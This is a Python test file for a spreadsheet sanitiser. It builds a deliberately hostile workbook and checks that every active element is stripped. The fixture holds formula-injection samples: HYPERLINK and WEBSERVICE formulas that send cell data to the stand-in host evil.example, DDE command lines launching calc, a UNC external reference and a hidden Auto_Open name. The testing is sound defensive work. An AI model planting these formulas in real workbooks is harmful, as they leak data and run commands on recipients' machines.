"""What a sender's workbook keeps when it is marked: nothing that does something by itself."""

import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from openpyxl.chart import BarChart, Reference
from openpyxl.formatting.rule import ColorScaleRule, FormulaRule
from openpyxl.packaging.custom import StringProperty
from openpyxl.styles import PatternFill
from openpyxl.workbook import Workbook
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.formula import ArrayFormula
from openpyxl.worksheet.table import Table

from site_builder.county_feedback.values_alone import keep_values_alone
from site_builder.untrusted_files import Sheet

HOST = "evil.example"
FORMULAS = [
    f'=HYPERLINK("http://{HOST}/?x="&A5,"点这里看说明")',
    "=cmd|'/c calc'!A0",
    f'=WEBSERVICE("http://{HOST}/?"&D5)',
    f"='\\\\{HOST}\\x\\[a.xlsx]S'!A1",
    "=1+1",
]
RED = PatternFill("solid", bgColor="FFFF0000")


def hostile() -> Workbook:
    """A workbook with one of everything that could do something when it is opened or clicked."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "名单"
    for line, formula in enumerate(FORMULAS, start=1):
        sheet.cell(line, 1, formula)
    sheet["B1"] = ArrayFormula("B1:B2", f'=WEBSERVICE("http://{HOST}/")')
    sheet["C1"], sheet["C2"], sheet["C3"] = "张三", 3, "说明"
    sheet["C3"].hyperlink = f"file://{HOST}/share/x"
    workbook.defined_names["_xlnm.Auto_Open"] = DefinedName("_xlnm.Auto_Open", attr_text="名单!$A$1", hidden=True)
    sheet.defined_names["x"] = DefinedName("x", attr_text=f'WEBSERVICE("http://{HOST}/")')
    chart = BarChart()
    chart.add_data(Reference(sheet, min_col=3, min_row=1, max_row=2))
    sheet.add_chart(chart, "H1")
    sheet.add_table(Table(displayName="t", ref="C1:C3"))
    for formula in (f'WEBSERVICE("http://{HOST}/")', "LEN(A1)=0"):
        sheet.conditional_formatting.add(f"D{len(formula)}", FormulaRule(formula=[formula], fill=RED))
        sheet.add_data_validation(DataValidation("custom", formula1=formula, sqref=f"D{len(formula)}"))
    scale = ColorScaleRule(start_type="formula", start_value=f'WEBSERVICE("http://{HOST}/")', end_type="max")
    sheet.conditional_formatting.add("F1:F9", scale)
    hidden = workbook.create_sheet("hid")
    hidden.sheet_state = "veryHidden"
    hidden["A1"] = '=DDE("cmd";"/c calc";"a")'
    workbook.create_chartsheet("图")
    workbook.custom_doc_props.append(StringProperty(name="x", value=f"http://{HOST}/"))
    return workbook


@pytest.fixture
def kept() -> Workbook:
    """The same after all was taken out, saved and opened again; of two formulas the last values were stored."""
    workbook = hostile()
    keep_values_alone(workbook, {"名单": Sheet(name="名单", rows=[["=点这里"], [], [7]])})
    saved = io.BytesIO()
    workbook.save(saved)
    with zipfile.ZipFile(saved) as parts:
        texts = [parts.read(name).decode() for name in parts.namelist()]
    assert not any(HOST in text or re.search(r"<f[ >/]", text) or "Auto_Open" in text for text in texts)
    return openpyxl.load_workbook(saved)


def test_no_formula_is_left_but_its_value(kept: Workbook) -> None:
    """What was stored with it stands there, as text where it is one; where nothing was stored the cell is empty."""
    sheet = kept["名单"]
    assert [(sheet.cell(line, 1).value, sheet.cell(line, 1).data_type) for line in range(1, 6)] == [
        ("=点这里", "s"),
        (None, "n"),
        (7, "n"),
        (None, "n"),
        (None, "n"),
    ]
    assert {cell.data_type for each in kept.worksheets for row in each.iter_rows() for cell in row} <= {"s", "n"}


def test_values_and_a_kit_s_own_conditions_stay(kept: Workbook) -> None:
    """Cells as they are; a condition that looks at the sheet alone."""
    sheet = kept["名单"]
    assert [sheet.cell(line, 3).value for line in (1, 2, 3)] == ["张三", 3, "说明"]
    assert [rule.formula for ruled in sheet.conditional_formatting for rule in ruled.rules] == [["LEN(A1)=0"]]
    assert [each.formula1 for each in sheet.data_validations.dataValidation] == ["LEN(A1)=0"]


def test_links_names_charts_and_tables_are_gone(kept: Workbook) -> None:
    """Neither a cell leads anywhere nor does a name, and the sheets are sheets of cells."""
    sheet = kept["名单"]
    assert sheet["C3"].hyperlink is None
    assert (dict(kept.defined_names), dict(sheet.defined_names), dict(sheet.tables), sheet._charts) == ({}, {}, {}, [])
    assert kept.sheetnames == ["名单", "hid"]
    assert kept["hid"]["A1"].value is None


def test_links_to_other_workbooks_are_gone(tmp_path: Path) -> None:
    """Those that only the package of the file knows."""
    workbook = hostile()
    workbook._external_links.append(object())
    keep_values_alone(workbook, {})
    workbook.save(tmp_path / "a.xlsx")
    with zipfile.ZipFile(tmp_path / "a.xlsx") as parts:
        assert not [name for name in parts.namelist() if "externalLink" in name]
